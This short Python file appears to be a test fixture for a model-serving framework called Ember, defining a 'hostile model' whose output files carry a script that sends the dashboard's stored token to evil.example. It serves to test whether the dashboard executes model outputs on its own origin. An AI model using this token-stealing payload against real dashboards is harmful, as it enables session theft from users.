"""A hostile model: its output file is a page or script that would read the dashboard's
token if it ran on Ember's origin."""

import tempfile

from ember import Input, Path

STEAL = "fetch('https://evil.example/?t=' + localStorage.getItem('ember-token'))"
BODIES = {
    "html": f"<html><body><script>{STEAL}</script></body></html>",
    "svg": f'<svg xmlns="http://www.w3.org/2000/svg"><script>{STEAL}</script></svg>',
    "js": STEAL,
    "txt": "just text",
}


class Predictor:
    def predict(self, kind: str = Input(choices=sorted(BODIES))) -> Path:
        folder = Path(tempfile.mkdtemp(prefix="active-output-"))
        path = folder / f"output.{kind}"
        path.write_text(BODIES[kind])
        return path
